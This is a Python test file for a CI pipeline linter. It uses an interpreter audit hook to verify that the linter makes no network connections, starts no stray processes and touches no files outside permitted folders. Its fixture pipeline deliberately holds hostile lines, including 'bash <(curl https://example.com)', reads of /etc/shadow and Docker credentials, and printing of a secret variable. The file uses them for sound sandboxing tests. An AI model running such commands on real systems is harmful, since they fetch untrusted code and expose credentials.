"""The program keeps to itself: no network, no other process, no file but the repository's and its own.

A hook of the interpreter (PEP 578) takes down what whole runs ask of the system, from the first import on.
"""

from __future__ import annotations

import hashlib
import json
import resource
import subprocess
import sys
import sysconfig
from pathlib import Path
from typing import Any

import pytest

from cilint.shellcheck import find_shellcheck
from tests.lsp.process import ServerProcess

ROOT = Path(__file__).resolve().parents[2]

# Writes down, line by line in a file of its own, what the interpreter asks of the system from when cilint starts.
WATCHED = """\
import json, os, sys
log = os.open(sys.argv.pop(1), os.O_WRONLY | os.O_APPEND)
PREFIXES = ("socket.", "subprocess.", "os.exec", "os.posix_spawn", "os.fork", "os.spawn", "os.system", "os.startfile",
            "pty.", "urllib.", "http.", "ftplib.", "smtplib.", "ctypes.", "webbrowser.", "os.remove", "os.rename",
            "os.mkdir", "os.chmod", "os.truncate", "shutil.", "tempfile.", "os.symlink", "os.link")
def watch(event, arguments):
    if event == "open":
        path, mode, flags = arguments
        if isinstance(path, (str, bytes)):
            os.write(log, json.dumps([event, os.fsdecode(path), mode or "", flags]).encode() + b"\\n")
    elif event.startswith(PREFIXES):
        os.write(log, json.dumps([event, *map(str, arguments)]).encode() + b"\\n")
    elif event in ("os.listdir", "os.scandir"):
        os.write(log, json.dumps([event, os.fspath(arguments[0] or ".")]).encode() + b"\\n")
sys.addaudithook(watch)
from cilint.__main__ import main
sys.exit(main())
"""

LOOKING = {"open", "os.listdir", "os.scandir"}
"""What a run asks that only reads."""
NO_LIMIT = {resource.RLIMIT_AS: resource.RLIM_INFINITY}
"""A program in Haskell reserves more addresses than anybody has memory."""
WRITING = ("w", "a", "x", "+")

# A pipeline that would have cilint do many things, were it to do them.
TEMPTING = """\
include:
  - local: ci/part.yml
  - remote: https://example.com/ci.yml
  - remote: file:///etc/passwd
  - project: group/project
    file: ci.yml
  - template: Jobs/Build.gitlab-ci.yml
  - component: gitlab.example.com/group/component@1
  - local: /../outside.yml
  - local: ci/*.yml
  - local: /etc/passwd
variables:
  DOCKER_AUTH_CONFIG: '{"credHelpers": {"registry.example.com": "helper"}, "credsStore": "desktop"}'
test:
  image: registry.example.com/group/image:latest
  services: [docker:dind]
  script:
    - docker login -u ci -p "$(cat /etc/hostname)" registry.example.com
    - cat ~/.docker/config.json < /etc/shadow
    - bash <(curl https://example.com)
    - Write-Host $env:SECRET
child:
  trigger: {include: ci/part.yml}
"""


HOUSE_RULE = """\
title: t
group: g
severity: info
confidence: low
select: logins
message: m
"""


@pytest.fixture
def taken_down(tmp_path: Path) -> Path:
    """The file in which `WATCHED` takes down what is asked of the system."""
    log = tmp_path / "log"
    log.touch()
    return log


def events_in(log: Path) -> list[list[Any]]:
    """What was taken down, in its order."""
    return [json.loads(line) for line in log.read_text(encoding="utf-8").splitlines()]


@pytest.fixture
def watched(repository, taken_down):
    """Runs a check and gives back what it asked of the system."""

    def run(*arguments: str, **options: Any) -> tuple[int, list[list[Any]]]:
        taken_down.write_bytes(b"")
        # Without -B the interpreter may write the byte code of modules that it meets for the first time.
        outcome = repository.check(*arguments, python=("-B", "-c", WATCHED, str(taken_down)), **options)
        return outcome.code, events_in(taken_down)

    return run


def own_folders() -> list[Path]:
    """Where the interpreter, its packages and cilint itself are."""
    names = ("stdlib", "platstdlib", "purelib", "platlib")
    folders = {*(sysconfig.get_path(name) for name in names), sys.prefix, sys.base_prefix}
    own = [ROOT / "cilint", ROOT / "rules", *map(Path, folders)]
    return [*own, *(folder.resolve() for folder in own)]


def outside(events: list[list[Any]], *folders: Path) -> list[Path]:
    """What was opened or listed outside of the folders, the program and the interpreter."""
    allowed = (*own_folders(), *folders)
    asked = [folders[0] / path for event, path, *_ in events if event in LOOKING]
    return [path for path in asked if not any(path.is_relative_to(folder) for folder in allowed)]


def written(events: list[list[Any]]) -> list[str]:
    """What was opened to be written."""
    return [path for event, path, *mode in events if event == "open" and (mode[1] & 3 or set(mode[0]) & {*WRITING})]


@pytest.fixture
def tempting(repository):
    """A repository that would have the program do many things, were it to do them."""
    repository.write(".gitlab-ci.yml", TEMPTING)
    repository.write("ci/part.yml", "part:\n  image: python\n  script: make\n")
    repository.write(".git/config", "[remote]\n  url = https://gitlab.example.com/group/project.git\n")
    repository.write(".cilint.yml", "registries: {registry.example.com: {auth: runner}}\n")
    repository.write("expected.yml", "tests: [{on: push, jobs: {test: runs}}]\n")
    repository.write("../outside.yml", "x: {script: y}\n")
    (repository.folder / "ci/link.yml").symlink_to("/etc/passwd")
    return repository


@pytest.mark.parametrize(
    "arguments",
    [
        ["."],
        [],
        ["ci/part.yml"],
        ["--format", "json"],
        ["--format", "codequality"],
        ["-", "--stdin-filename", "ci/x.yml"],
    ],
    ids=" ".join,
)
def test_a_check_opens_no_socket_starts_no_process_and_reads_nothing_outside(tempting, watched, arguments) -> None:
    code, events = watched(*arguments, "--no-cache", stdin=TEMPTING.encode())
    assert code in (1, 2)
    assert {event for event, *_ in events} <= LOOKING
    assert outside(events, tempting.folder) == []
    assert written(events) == []


@pytest.mark.parametrize(
    "command",
    [
        "facts",
        "query $.images[*] .",
        "images",
        "secrets --on push,mr",
        "secrets --job-token",
        "resolve --origins",
        "jobs --on push,mr --why test",
        "variables test --on push",
        "test --tests expected.yml",
        "graph --format html",
        "diff ci/ .",
        "settings",
        "rules",
        "explain unpinned-image",
        "pin --diff --offline",
        "check --no-cache --diff",
        "check --no-cache --persona pedantic --format html",
        "baseline --check",
    ],
)
def test_a_command_that_only_tells_does_no_more_than_look(tempting, watched, command) -> None:
    name, *arguments = command.split()
    code, events = watched(*arguments, command=(name,))
    assert code in (0, 1, 2)
    assert {event for event, *_ in events} <= LOOKING
    assert outside(events, tempting.folder) == []
    assert written(events) == []


def test_a_check_writes_its_result_into_the_cache_and_nothing_else(repository, watched) -> None:
    repository.write(".gitlab-ci.yml", "test: {image: python, script: make}\n")
    (repository.folder.parent / "home").mkdir()
    before = {path for path in repository.folder.parent.rglob("*") if not path.is_dir()}
    watched()
    made = {path for path in repository.folder.parent.rglob("*") if not path.is_dir()} - before
    cache = repository.folder.parent / "home/.cache/cilint/results"
    assert {path.parent for path in made if path.name != "log"} == {cache}
    _, again = watched()
    assert {event for event, *_ in again} <= LOOKING
    assert written(again) == []
    assert outside(again, repository.folder, cache) == []


def test_a_check_reads_what_is_vendored_and_opens_no_socket(repository, watched) -> None:
    content = b"part:\n  script: make\n"
    digest = hashlib.sha256(content).hexdigest()
    place = {"file": "build.yml", "sha256": digest}
    files = [
        {"kind": "remote", "location": "https://example.com/ci.yml", **place},
        {"kind": "project", "location": "ci.yml", "project": "group/project", "home": {"ref": "main"}, **place},
    ]
    lock = json.dumps({"version": 1, "files": files, "searches": []})
    repository.write(".cilint/vendor/lock.json", lock)
    repository.write(".cilint/vendor/build.yml", content)
    repository.write(".gitlab-ci.yml", TEMPTING)
    watched()
    _, events = watched()
    assert {event for event, *_ in events} <= LOOKING
    read = [path for event, path, *_ in events if event == "open"]
    assert any(path.endswith("vendor/build.yml") for path in read)


def test_a_check_reads_outside_the_repository_what_the_security_page_lists_and_nothing_else(
    repository, watched, tmp_path
) -> None:
    """One of each kind: a file of the settings, of the command line, of the environment, and of a worktree's Git."""
    pipeline = "include: {project: group/project, file: ci.yml}\ntest: {script: make, image: registry.example.com/a}\n"
    repository.write(".gitlab-ci.yml", pipeline)
    (repository.folder / ".git").rmdir()
    repository.write(".git", f"gitdir: {tmp_path}/main/.git/worktrees/project\n")
    repository.write("../main/.git/worktrees/project/commondir", "../..\n")
    repository.write("../main/.git/config", '[remote "origin"]\n  url = https://gitlab.example.com/group/own.git\n')
    repository.write("../home/.gitconfig", "[user]\n  name = x\n")
    repository.write("../home/.docker/config.json", "{}")
    repository.write("../home/.cilint.yml", "persona: pedantic\n")
    repository.write("../.cilint.yml", "persona: pedantic\n")
    lock = json.dumps({"version": 1, "files": [], "searches": []})
    repository.write("../home/.cache/cilint/includes/lock.json", lock)
    repository.write("../checkout/ci.yml", "part: {script: make}\n")
    repository.write("../settings.toml", '[[runners]]\nexecutor = "docker"\n')
    repository.write("../option.toml", '[[runners]]\nexecutor = "docker"\n')
    repository.write("../auth.json", '{"auths": {}}')
    settings = f"includes: {{group/project: {tmp_path}/checkout}}\nrunner: {{config: {tmp_path}/settings.toml}}\n"
    repository.write("../settings.yml", settings)
    repository.write("../other.yml", "other: {script: make}\n")
    repository.write("../rules/a.yaml", HOUSE_RULE)
    _, events = watched(
        *("--config", "../settings.yml", "--runner-config", "../option.toml", "--rules", "../rules"),
        *(".gitlab-ci.yml", "../other.yml"),
        variables={"CI": "true", "DOCKER_AUTH_CONFIG": str(tmp_path / "auth.json")},
    )
    opened = {(repository.folder / path).resolve() for event, path, *_ in events if event == "open"}
    own = (*own_folders(), repository.folder)
    read = sorted(
        path.relative_to(tmp_path).as_posix()
        for path in opened
        if path.is_relative_to(tmp_path) and not any(path.is_relative_to(folder) for folder in own)
    )
    assert read == [
        "auth.json",
        "checkout/ci.yml",
        "main/.git/config",
        "main/.git/worktrees/project/commondir",
        "option.toml",
        "other.yml",
        "rules/a.yaml",
        "settings.toml",
        "settings.yml",
    ]
    elsewhere = [path for path in opened if not path.is_relative_to(tmp_path)]
    assert [path for path in elsewhere if not any(path.is_relative_to(folder) for folder in own)] == []


def test_a_report_is_the_only_file_that_a_check_writes(repository, watched) -> None:
    repository.write(".gitlab-ci.yml", TEMPTING)
    _, events = watched("--output", "json=report.json")
    assert not [event for event, *_ in events if event.startswith(("socket.", "subprocess."))]
    renamed = [names for event, *names in events if event == "os.rename"]
    assert [Path(new).name for _, new, *_ in renamed] == ["report.json"]
    assert sorted(path.name for path in repository.folder.iterdir()) == [".git", ".gitlab-ci.yml", "report.json"]


def test_an_editor_is_answered_without_the_network_other_programs_and_files_elsewhere(
    tempting: Any, taken_down: Path
) -> None:
    root = tempting.folder.as_uri()
    document = {"uri": f"{root}/.gitlab-ci.yml", "languageId": "yaml", "version": 1, "text": TEMPTING}
    where = {"textDocument": {"uri": document["uri"]}}
    at = {**where, "position": {"line": 0, "character": 1}}
    everything = {**where, "range": {"start": {"line": 0, "character": 0}, "end": {"line": 99, "character": 0}}}
    python = ("-B", "-c", WATCHED, taken_down)
    with ServerProcess(python, HOME=str(tempting.folder.parent / "home"), PYTHONPATH=str(ROOT)) as server:
        folders = [{"uri": root, "name": "project"}]
        server.ask("initialize", processId=None, rootUri=root, workspaceFolders=folders, capabilities={})
        server.tell("initialized")
        server.tell("textDocument/didOpen", textDocument=document)
        told = (each for each in server.messages() if each.get("method") == "textDocument/publishDiagnostics")
        assert next(told)["params"]["diagnostics"]
        actions = server.ask("textDocument/codeAction", **everything, context={"diagnostics": []})
        assert actions
        for method in ("hover", "definition", "completion"):
            server.ask(f"textDocument/{method}", **at)
        for method in ("documentLink", "documentSymbol", "foldingRange", "codeLens"):
            server.ask(f"textDocument/{method}", **where)
        server.ask("workspace/symbol", query="")
        server.ask("shutdown")
    events = events_in(taken_down)
    # The two ends of a pipe, by which asyncio wakes itself, are no connection.
    asked = {event for event, *_ in events} - {"socket.__new__"}
    assert asked <= LOOKING
    assert outside(events, tempting.folder) == []
    assert written(events) == []


def test_git_alone_is_started_where_commits_are_asked_for(repository, watched) -> None:
    (repository.folder / ".git").rmdir()
    repository.write(".gitlab-ci.yml", TEMPTING)
    author = ("-c", "user.name=x", "-c", "user.email=x@example.com", "-c", "commit.gpgsign=false")
    for arguments in (("init", "-q"), ("add", "."), (*author, "commit", "-q", "-m", "x")):
        subprocess.run(["git", *arguments], cwd=repository.folder, check=True, capture_output=True)
    repository.write(".gitlab-ci.yml", TEMPTING + "more: {script: make}\n")
    for line in ("diff HEAD", "check --no-cache --new-since HEAD", "jobs --on push --changed-since HEAD"):
        name, *arguments = line.split()
        _, events = watched(*arguments, command=(name,))
        started = [program for event, program, *_ in events if event == "subprocess.Popen"]
        assert {Path(program).name for program in started} == {"git"}
        assert not [event for event, *_ in events if event.startswith(("socket.", "os.exec", "os.spawn", "os.system"))]


@pytest.mark.skipif(not find_shellcheck(()), reason="ShellCheck is not installed")
def test_shellcheck_alone_is_started_where_it_is_asked_for(repository, watched) -> None:
    repository.write(".gitlab-ci.yml", "test: {script: ['source /etc/passwd', 'tool $(x)']}\n")
    repository.write(".shellcheckrc", "external-sources=true\n")
    code, events = watched("--shellcheck", "--no-cache", "--fail-on", "minor", limits=NO_LIMIT)
    started = {program for event, program, *_ in events if event == "subprocess.Popen"}
    assert {Path(program).name for program in started} == {"shellcheck"}
    assert code == 1
    assert outside(events, repository.folder) == []


def test_online_speaks_to_the_servers_that_pipelines_name_and_to_no_other(repository, watched, gitlab, web) -> None:
    gitlab.project("group/project").commit({"ci.yml": "part: {script: make}\n"}, "main")
    repository.write(
        ".gitlab-ci.yml",
        "include: {project: group/project, file: ci.yml}\n"
        f"test: {{image: '{web.name}/group/image:1', script: 'curl http://127.0.0.1:9/x'}}\n",
    )
    repository.write(
        ".cilint.yml", f"gitlab: {{url: '{gitlab.address}'}}\nregistries: {{'{web.name}': {{auth: public}}}}\n"
    )
    repository.write(".git/config", "[remote]\n  url = http://127.0.0.1:10/group/own.git\n")
    _, events = watched("--online")
    connected = {arguments[-1] for event, *arguments in events if event == "socket.connect"}
    assert connected == {str(("127.0.0.1", gitlab.port)), str(("127.0.0.1", web.port))}
    assert gitlab.asked
    assert web.asked
    assert not [event for event, *_ in events if event.startswith(("subprocess.", "os.exec", "os.spawn", "os.system"))]
    asked = {arguments[0] for event, *arguments in events if event == "socket.getaddrinfo"}
    assert asked <= {"127.0.0.1"}


def test_the_watch_sees_what_it_is_there_to_see(watched, tmp_path) -> None:
    """A test that cannot fail would prove nothing: a check of another repository does read outside this one."""
    other = tmp_path / "other"
    (other / ".git").mkdir(parents=True)
    (other / "x.yml").write_text("a: {script: b, image: c}\n", encoding="utf-8")
    _, events = watched(str(other / "x.yml"))
    assert str(other / "x.yml") in [path for event, path, *_ in events if event == "open"]
